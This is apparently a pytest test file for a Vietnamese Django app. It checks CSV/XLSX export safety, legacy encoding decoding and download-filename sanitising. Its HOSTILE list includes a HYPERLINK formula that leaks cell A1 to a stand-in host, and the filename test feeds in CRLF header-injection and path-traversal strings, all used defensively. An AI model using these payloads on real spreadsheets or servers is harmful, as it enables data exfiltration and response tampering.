"""core.tabular writes would-be formulas as text and reads the encodings Vietnamese spreadsheets are saved in."""

import codecs
import csv
import io
import unicodedata

import openpyxl
import pytest

from tinhso.core.errors import ValidationFailed
from tinhso.core.tabular import csv_safe, decode_text, read_table, to_csv, to_xlsx

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"bấm")', "+1+2", "-3+4", "@SUM(A1)", "\t=1", "\r=1"]
ALIASES = {"ten": "name", "ma": "code"}


def test_xlsx_export_writes_every_would_be_formula_as_quoted_text():
    content = to_xlsx("Thử", ["Tên"], [[value] for value in HOSTILE] + [["Bình thường"], [-5]])
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    for cell, value in zip(cells, HOSTILE, strict=False):
        # depending on the openpyxl release a stored CR reads back as CR or as LF;
        # what matters is that the cell is text, not a formula
        assert cell.value in (value, value.replace("\r", "\n"))
        assert cell.data_type == "s" and cell.quotePrefix
    assert cells[-2].value == "Bình thường" and not cells[-2].quotePrefix
    assert cells[-1].value == -5 and cells[-1].data_type == "n"  # numbers stay numbers


def test_csv_export_prefixes_would_be_formulas_with_an_apostrophe():
    content = to_csv(["Tên", "Số"], [[value, -5] for value in HOSTILE] + [["Hà Nội", 1]])
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert [r[0] for r in rows[1:-1]] == ["'" + value for value in HOSTILE]
    assert rows[1][1] == "-5" and rows[-1] == ["Hà Nội", "1"]
    assert csv_safe("Sở TTTT") == "Sở TTTT"


def test_an_exported_csv_imports_back_unchanged():
    content = to_csv(["Tên", "Mã"], [["=1+2", "-01"], ["'quoted'", "X"]])
    rows = read_table(content, "don-vi.csv", ALIASES)
    assert [(r["name"], r["code"]) for r in rows] == [("=1+2", "-01"), ("'quoted'", "X")]


TONES = "\u0300\u0301\u0303\u0309\u0323"


def _windows_1258(text: str) -> bytes:
    """As Vietnamese Windows writes it: letters with their hat or horn precomposed (â, ơ, ư, đ), the tone
    as a separate combining mark ("ồ" = "ô" + U+0300), since Windows-1258 has no "ồ"."""
    out = b""
    for char in text:
        decomposed = unicodedata.normalize("NFD", char)
        tones = "".join(c for c in decomposed if c in TONES)
        base = unicodedata.normalize("NFC", "".join(c for c in decomposed if c not in TONES))
        out += (base + tones).encode("cp1258")
    return out


VIETNAMESE = "Tên;Mã\nỦy ban nhân dân xã Đồng Phúc;001\nPhường Bắc Kạn;002\n"


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp1258"])
def test_csv_saved_by_vietnamese_excel_is_read_in_any_common_encoding(encoding):
    content = _windows_1258(VIETNAMESE) if encoding == "cp1258" else VIETNAMESE.encode(encoding)
    rows = read_table(content, "don-vi.csv", ALIASES)
    assert [r["name"] for r in rows] == ["Ủy ban nhân dân xã Đồng Phúc", "Phường Bắc Kạn"]


def test_excel_unicode_text_is_tab_separated_utf16():
    content = codecs.BOM_UTF16_LE + "Tên\tMã\nXã Ba Bể\t003\n".encode("utf-16-le")
    assert read_table(content, "don-vi.txt", ALIASES)[0]["name"] == "Xã Ba Bể"


def test_an_unrecognised_encoding_is_refused_in_both_languages():
    content = "Tên,Mã\nXã Ba Bể,003\n".encode("utf-16-le")  # UTF-16 without its BOM
    with pytest.raises(ValidationFailed) as caught:
        read_table(content, "don-vi.csv", ALIASES)
    error = caught.value.errors[0]
    assert error.field == "file" and "UTF-8" in error.vi and "UTF-8" in error.en
    assert "decode" not in error.en and "codec" not in error.en
    with pytest.raises(ValidationFailed):
        decode_text(b"\x81\x8d\x8f\x90 not cp1258 either")


def test_download_names_cannot_inject_headers_and_keep_vietnamese():
    from django.http import HttpResponse

    from tinhso.core.downloads import attach, content_type_for, safe_filename

    assert safe_filename("KH\r\nSet-Cookie: x=1.xlsx") == "KH__Set-Cookie: x=1.xlsx"
    assert not set('/\\"') & set(safe_filename('../..\\"etc"/passwd'))
    assert safe_filename("\r\n") == "tep"
    assert len(safe_filename("a" * 500 + ".xlsx")) <= 150 and safe_filename("a" * 500 + ".xlsx").endswith(".xlsx")
    header = attach(HttpResponse(b""), "Kế hoạch\n2024.xlsx")["Content-Disposition"]
    assert "\n" not in header and header.startswith("attachment; filename*=utf-8''K%E1%BA%BF%20ho%E1%BA%A1ch_2024")
    assert content_type_for("x.PDF") == "application/pdf" and content_type_for("x.html") == "application/octet-stream"
